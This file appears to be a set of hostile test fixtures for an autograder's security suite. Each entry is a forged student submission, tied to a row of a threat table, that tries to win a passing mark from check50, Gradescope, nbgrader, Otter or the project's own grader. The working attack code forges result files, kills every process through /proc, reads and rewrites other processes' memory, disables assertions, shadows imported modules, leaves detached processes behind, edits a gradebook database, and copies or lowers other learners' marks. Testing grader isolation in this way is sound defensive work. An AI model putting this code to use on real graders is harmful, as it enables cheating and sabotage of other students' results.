"""Wrong answers that try to get the mark, written for what each grader is.

Each belongs to a row of the threat table in SECURITY.md. Who wrote one knows everything of the
grader but the words of the greeting: no forgery has them. A grader's answers are functions, or
programs that get the name from their input (check50) or their environment (ours).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from benchmarks.peers.check50 import Check50
from benchmarks.peers.grader import ANSWER
from benchmarks.peers.gradescope import Gradescope
from benchmarks.peers.nbgrader import Nbgrader
from benchmarks.peers.otter import Otter
from benchmarks.peers.ours import Packerlab
from tests.hostile.cases import COURSE

if TYPE_CHECKING:
    from benchmarks.peers.grader import Files

FORGER, NEIGHBOUR, ACCOMPLICE = "bob", "ada", "cyd"
"""Who hands in the forgery; a right answer that is graded before; a wrong one graded after it."""


@dataclass(frozen=True)
class Forgery:
    """`answers` are by grader; `of_others` aims at what other learners hand in, or at their marks.

    `beside` are files that are handed in beside the answer.
    """

    name: str
    row: int
    says: str
    answers: dict[str, str]
    beside: dict[str, Files] = field(default_factory=dict)
    of_others: bool = False

    def files(self, grader: str) -> Files:
        return {ANSWER: self.answers[grader], **self.beside.get(grader, {})}


CHECK50, GRADESCOPE, NBGRADER, OTTER, OURS = (
    each.name for each in (Check50, Gradescope, Nbgrader, Otter, Packerlab)
)


def functions(text: str) -> dict[str, str]:
    """The same answer for all graders whose answers are functions."""
    return dict.fromkeys((GRADESCOPE, NBGRADER, OTTER), text)


# --- parts of several -----------------------------------------------------------------------------

WRONG = '\ndef greet(name):\n    return "wrong"\n'

WRITE = """
import os

def write(text):
    os.makedirs("out", exist_ok=True)
    with open("out/message.txt", "w") as file:
        file.write(text + "\\n")
"""
"""What ours is answered with."""

KILL = """
import os, signal

def kill_all():
    for pid in sorted(map(int, filter(str.isdigit, os.listdir("/proc")))):
        if pid not in (1, os.getpid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
"""

DETACH = """
import os, time

def later(step):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):
        os.dup2(null, descriptor)
    until = time.monotonic() + 20
    while time.monotonic() < until:
        try:
            if step():
                break
        except Exception:
            pass
    os._exit(0)
"""
"""A process of its own that does a step again and again, until it succeeds."""

IMPROVE = """
import json, re

def improve(path):
    with open(path) as file:
        text = file.read()
    json.loads(text)
    better = re.sub(r'"score": 0(\\.0)?\\b', '"score": 1.0', text)
    better = re.sub(r'"passed": (false|null)', '"passed": true', better)
    with open(path, "w") as file:
        file.write(better.replace('"failed"', '"passed"'))
    return True
"""
"""Changes a result that is written to one with the mark."""

MEMORY = """
import os, re

def texts(name):
    name = name.encode()
    text = re.compile(rb"\\0([ -~]{1,12}" + name + rb"[ -~]{0,4})\\0")
    for pid in sorted(map(int, filter(str.isdigit, os.listdir("/proc"))), reverse=True):
        if pid == os.getpid():
            continue
        try:
            areas = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb+", buffering=0)
        except OSError:
            continue
        for area in areas:
            start, end = (int(number, 16) for number in area.split()[0].split("-"))
            if " rw-p " not in area or end - start > 1 << 24:
                continue
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except OSError:
                continue
            place = data.find(name)
            while place >= 0:
                found = text.search(data, max(0, place - 13), place + len(name) + 5)
                if found:
                    yield memory, start + found.start(1), found[1]
                place = data.find(name, place + 1)
"""
"""Texts around the name in the memory of every other process."""

EVERYTHING = """
class Everything(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__
"""

NO_ASSERTIONS = """
import ast

class NoAssertions(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(NoAssertions())
"""

NO_TEST = """
from otter.test_files.exception_test import test_case

test_case.call_func = lambda *_: None
"""

TAKES_OVER = f"""{EVERYTHING}
import sys

frame = sys._getframe()
while frame:
    if "greet" in frame.f_globals:
        frame.f_globals["greet"] = Everything
    frame = frame.f_back

def token_hex(size):
    return "ab" * size
"""
"""A module that takes the place of another: where it is imported, every greeting is right."""

OTTERS_PLACE = f"""
import importlib, os, sys

path = sys.path[:]
sys.path[:] = [each for each in path if not os.path.exists(os.path.join(each, "answer.py"))]
del sys.modules["otter"]
importlib.import_module("otter")
sys.path[:] = path
{NO_TEST}
"""

STARTUP = """
import os

folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "00.py"), "w") as file:
    file.write({code!r})
"""
"""IPython runs such a file in every kernel that starts later."""

MARKS = """
import sqlite3

def mark(learner, score):
    gradebook = sqlite3.connect("/grading/gradebook.db", timeout=10)
    with gradebook:
        gradebook.execute(
            "UPDATE grade SET manual_score = ?, needs_manual_grade = 0 WHERE notebook_id IN"
            " (SELECT notebook.id FROM submitted_notebook AS notebook JOIN submitted_assignment"
            " AS assignment ON notebook.assignment_id = assignment.id WHERE student_id = ?)",
            (score, learner),
        )
    gradebook.close()
"""

MARKS_LATER = f"""{MARKS}
def graded():
    gradebook = sqlite3.connect("/grading/gradebook.db", timeout=10)
    found = gradebook.execute("SELECT 1 FROM grade WHERE auto_score = 0").fetchall()
    gradebook.close()
    if found:
        mark({FORGER!r}, 1)
    return found

later(graded)
"""  # noqa: S608  (two constants of ours)

SEARCH = rf"""
import os, re

SKIPPED = ("/proc", "/sys", "/usr")

def files():
    roots = ["/", {str(COURSE)!r}]
    for root in roots:
        for folder, folders, names in os.walk(root):
            if folder.startswith(SKIPPED):
                folders.clear()
                continue
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                    yield path

def read(path):
    try:
        with open(path, errors="ignore") as file:
            return file.read()
    except OSError:
        return ""
"""
"""Every file that a program of ours can see, and those of the course by the path they have."""

# --- row 1: results of its own --------------------------------------------------------------------

PRINTED = """
RESULTS = '{"score": 1, "tests": [{"name": "greet", "score": 1, "max_score": 1}]}'
LINES = [":) greets by name", "greet results: All test cases passed!", "1.0", RESULTS]
print(*LINES, sep="\\n", flush=True)
"""
EXITS = """
import os

def greet(name):
    os._exit(0)
"""
CHECK50_RESULT = (
    '{"slug": "checks", "version": "3.5.0", "results": [{"name": "greets", "passed": true,'
    ' "description": "greets by name", "log": [], "cause": null, "data": {}, "dependency": null}]}'
)
GRADESCOPE_RESULT = (
    '{"score": 1.0, "tests": [{"name": "greets", "score": 1.0, "max_score": 1.0,'
    ' "status": "passed"}]}'
)
OTTER_RESULT = f"""
import glob, pickle, sys
from otter.test_files import GradingResults
from otter.test_files.abstract_test import TestCase, TestCaseResult
from otter.test_files.exception_test import ExceptionTestFile

case = TestCase("greet - 1", None, True, 1, None, None)
test = ExceptionTestFile("greet", "./tests/greet.py", [case])
test.test_case_results = [TestCaseResult(test_case=case, message="", passed=True)]
for path in glob.glob("/tmp/*.pkl"):
    with open(path, "wb") as file:
        pickle.dump(GradingResults([test]), file)
sys.modules["otter.execute"] = None
{WRONG}"""
OUR_RESULT = f"""{WRITE}
REPORT = '{{"format": 1, "verdict": "passed", "score": 10, "max_score": 10, "checks": []}}'
for folder in (".", "out", "/workspace", "/tmp", "/run/box", os.path.expanduser("~")):
    for name in ("report.json", "results.json", "book/reports/902_any_program/bob/1.json"):
        try:
            path = os.path.join(folder, name)
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as file:
                file.write(REPORT)
        except OSError:
            pass
write("wrong")
"""
OUR_LINES = f"""{WRITE}
import glob

LINES = [
    "1700000000,null.here,artifact-count,1",
    "1700000000,null.here,artifact,0,files-count,1",
    "Build 'null.here' finished after 1 second.",
    '{{"name": "test_message", "outcome": "passed", "points": 5, "max_points": 5}}',
]
for pipe in ["/proc/self/fd/1", *glob.glob("/proc/[0-9]*/fd/1")]:
    try:
        with open(pipe, "w") as file:
            print(*LINES, sep="\\n", file=file)
    except OSError:
        pass
write("wrong")
"""

RESULTS = [
    Forgery(
        "prints",
        1,
        "Prints what the grader prints for a right answer.",
        {
            **functions(PRINTED + WRONG),
            CHECK50: "input()\n" + PRINTED,
            OURS: OUR_LINES,
        },
    ),
    Forgery(
        "exits",
        1,
        "Ends the process that grades it, with success where it can.",
        {
            **functions(EXITS),
            CHECK50: KILL + "kill_all()\n",
            OURS: f"{WRITE}{KILL}write('wrong')\nkill_all()\n",
        },
    ),
    Forgery(
        "writes",
        1,
        "Writes the grader's own result, and sees to it that the grader writes none.",
        {
            CHECK50: f"""{KILL}
with open("/grading/results/{FORGER}.json", "w") as file:
    file.write('{CHECK50_RESULT}')
kill_all()
""",
            GRADESCOPE: f"""
import os

with open("/autograder/results/results.json", "w") as file:
    file.write('{GRADESCOPE_RESULT}')
os._exit(0)
""",
            NBGRADER: f"{MARKS}\nmark({FORGER!r}, 1)\n{WRONG}",
            OTTER: OTTER_RESULT,
            OURS: OUR_RESULT,
        },
    ),
]

# --- row 2: comparisons inside the grader ---------------------------------------------------------

COMPARISONS = [
    Forgery(
        "equals",
        2,
        "Answers with a value that equals everything.",
        {
            **functions(f'{EVERYTHING}\ndef greet(name):\n    return Everything("wrong")\n'),
            CHECK50: 'input()\nprint(".*", "*", "%", "{name}", "$name", sep="\\n")\n',
            OURS: f'{WRITE}\nwrite(".*\\n*\\n%s\\n{{name}}\\n${{var.name}}")\n',
        },
    ),
    Forgery(
        "patches",
        2,
        "Changes the check, or what the check expects, in the grader's memory.",
        {
            CHECK50: f"""{MEMORY}
for memory, address, text in texts(input()):
    memory.seek(address)
    memory.write(b"x" * len(text))
    print("x" * len(text), flush=True)
""",
            GRADESCOPE: "import unittest\n\nunittest.TestCase.assertEqual = lambda *_: None\n"
            + WRONG,
            NBGRADER: NO_ASSERTIONS + WRONG,
            OTTER: NO_TEST + WRONG,
            OURS: f"""{WRITE}{MEMORY}
write("x" * (len(os.environ["NAME"]) + 8))
for memory, address, text in texts(os.environ["NAME"]):
    try:
        memory.seek(address)
        memory.write(b"x" * len(text))
    except OSError:
        pass
""",
        },
    ),
]

# --- row 3: files that Python or the grader would load --------------------------------------------

SHADOWED = ("conftest.py", "json.py", "secrets.py", "sitecustomize.py", "unittest.py")
PLANTED = dict.fromkeys(SHADOWED, TAKES_OVER)

LOADED = [
    Forgery(
        "shadows",
        3,
        "Hands in modules with the names of those that the grader imports.",
        {**functions(WRONG), CHECK50: Check50.wrong, OURS: Packerlab.wrong},
        beside={
            CHECK50: {**PLANTED, "check50.py": TAKES_OVER, "pexpect.py": TAKES_OVER},
            GRADESCOPE: {**PLANTED, "gradescope_utils/__init__.py": TAKES_OVER},
            NBGRADER: {**PLANTED, "nbgrader_config.py": TAKES_OVER},
            OTTER: {"otter/__init__.py": OTTERS_PLACE},
            OURS: {**PLANTED, "packerlab/__init__.py": TAKES_OVER},
        },
    )
]

# --- row 4: reading what it must not know ---------------------------------------------------------

READS_CHECK = """
import glob, re

def greet(name):
    for path in glob.glob({pattern!r}, recursive=True):
        with open(path, errors="ignore") as file:
            found = re.search(r'f\\\\?"([^"{{]*)\\{{name\\}}([^"\\\\]*)', file.read())
        if found:
            return found[1] + name + found[2]
    return "wrong"
"""
PROGRAM = "\nprint(greet(input()))\n"

READS_NEIGHBOUR = """
import glob

def greet(name):
    for path in glob.glob({pattern!r}, recursive=True):
        with open(path) as file:
            others = {{}}
            exec(file.read(), others)
        return others["greet"](name)
    return "wrong"
"""

READING = [
    Forgery(
        "remembers",
        4,
        "Takes the expected value from the grader's memory.",
        {
            **functions("""
import sys

def greet(name):
    frame = sys._getframe(1)
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, str) and name in value and value != name:
                return value
        frame = frame.f_back
    return "wrong"
"""),
            CHECK50: f"""{MEMORY}
for *_, text in texts(input()):
    print(text.decode(), flush=True)
""",
            OURS: f"""{WRITE}{MEMORY}
found = [text.decode() for *_, text in texts(os.environ["NAME"])]
write(found[0] if found else "wrong")
""",
        },
    ),
    Forgery(
        "reads",
        4,
        "Takes the expected value from the files of the check or of the solution.",
        {
            CHECK50: READS_CHECK.format(pattern="/grading/checks/*.py") + PROGRAM,
            GRADESCOPE: READS_CHECK.format(pattern="/autograder/source/tests/*.py"),
            NBGRADER: READS_CHECK.format(pattern="/grading/source/**/*.ipynb"),
            OTTER: READS_CHECK.format(pattern="tests/*.py"),
            OURS: f"""{WRITE}{SEARCH}
greeting = re.compile(r'"([^"{{$]*)\\$?\\{{?(?:hidden\\(.name.\\)|NAME|var\\.name)\\}}?([^"\\\\]*)')
found = [match for path in files() for match in greeting.findall(read(path)) if match[0].strip()]
write(found[0][0] + os.environ["NAME"] + found[0][1] if found else "wrong")
""",
        },
    ),
    Forgery(
        "copies",
        4,
        "Takes the answer of another learner.",
        {
            CHECK50: f"""
with open("/grading/submissions/{NEIGHBOUR}/answer.py") as file:
    exec(file.read())
""",
            GRADESCOPE: READS_NEIGHBOUR.format(pattern=f"/autograder/**/{NEIGHBOUR}/**/*.py"),
            NBGRADER: f"""
import json

def greet(name):
    others = {{}}
    with open("/grading/submitted/{NEIGHBOUR}/greeting/greeting.ipynb") as file:
        exec(json.load(file)["cells"][0]["source"], others)
    return others["greet"](name)
""",
            OTTER: READS_NEIGHBOUR.format(pattern=f"/grading/submissions/{NEIGHBOUR}/*.py"),
            OURS: f"""{WRITE}{SEARCH}
own = {{os.path.realpath(__file__), os.path.realpath("attack")}}
found = [read(path) for path in files() if "out/message.txt" in read(path) and path not in own]
for program in found:
    try:
        exec(program)
    except Exception:
        pass
if not os.path.exists("out/message.txt"):
    write("wrong")
""",
        },
        of_others=True,
    ),
]

# --- rows 13 and 26: what is left behind, and the marks of others ---------------------------------

LATER = [
    Forgery(
        "stays",
        13,
        "Leaves a process that changes the result as soon as the grader has written it.",
        {
            CHECK50: f"""{DETACH}{IMPROVE}
later(lambda: improve("/grading/results/{FORGER}.json"))
input()
print("wrong")
""",
            GRADESCOPE: f"""{DETACH}{IMPROVE}
later(lambda: improve("/autograder/results/results.json"))
{WRONG}""",
            NBGRADER: DETACH + MARKS_LATER + WRONG,
            OTTER: f"""{DETACH}{IMPROVE}
later(lambda: improve("/grading/results/{FORGER}/results.json"))
{WRONG}""",
            OURS: f"""{WRITE}{SEARCH}{DETACH}
def step():
    for path in files():
        text = read(path)
        if path.endswith(".json") and '"failed"' in text:
            with open(path, "w") as file:
                file.write(text.replace('"failed"', '"passed"'))

write("wrong")
later(step)
""",
        },
    ),
    Forgery(
        "leaves",
        13,
        "Leaves something with which the next wrong answer passes.",
        {
            CHECK50: """
path = "/grading/checks/__init__.py"
with open(path) as file:
    text = file.read()
with open(path, "w") as file:
    file.write(text.replace(".stdout(expected, regex=False)", ""))
input()
print("wrong")
""",
            GRADESCOPE: f"""
import glob

for path in glob.glob("/autograder/source/tests/*.py"):
    with open(path) as file:
        text = file.read()
    with open(path, "w") as file:
        file.write(text.replace("assertEqual", "assertNotEqual"))
{WRONG}""",
            NBGRADER: STARTUP.format(code=NO_ASSERTIONS) + WRONG,
            OTTER: STARTUP.format(code=NO_TEST) + WRONG,
            OURS: f"""{WRITE}{SEARCH}
import site

home = os.path.expanduser("~")
for folder in ("/tmp", "/var/tmp", "/dev/shm", home, site.getusersitepackages()):
    for name in ("sitecustomize.py", "usercustomize.py", "message.txt", ".packerconfig"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("")
        except OSError:
            pass
for path in files():
    if "/graders/" in path:
        with open(path, "w") as file:
            file.write(read(path).replace("text != expected", "False"))
write("wrong")
""",
        },
        of_others=True,
    ),
    Forgery(
        "marks",
        26,
        "Changes the mark of another learner.",
        {
            CHECK50: f"""
path = "/grading/results/{NEIGHBOUR}.json"
with open(path) as file:
    text = file.read()
with open(path, "w") as file:
    file.write(text.replace('"passed": true', '"passed": false'))
""",
            GRADESCOPE: f"""
import glob

for path in glob.glob("/autograder/**/results.json", recursive=True):
    with open(path) as file:
        text = file.read()
    with open(path, "w") as file:
        file.write(text.replace('"score": 1', '"score": 0'))
{WRONG}""",
            NBGRADER: f"{MARKS}\nmark({NEIGHBOUR!r}, 0)\n{WRONG}",
            OTTER: f"""
path = "/grading/results/{NEIGHBOUR}/results.json"
with open(path) as file:
    text = file.read()
with open(path, "w") as file:
    file.write(text.replace('"score": 1', '"score": 0'))
{WRONG}""",
            OURS: f"""{WRITE}{SEARCH}
for path in files():
    text = read(path)
    if path.endswith(".json") and '"passed"' in text:
        with open(path, "w") as file:
            file.write(text.replace('"passed"', '"failed"'))
write("wrong")
""",
        },
        of_others=True,
    ),
]

FORGERIES = (*RESULTS, *COMPARISONS, *LOADED, *READING, *LATER)
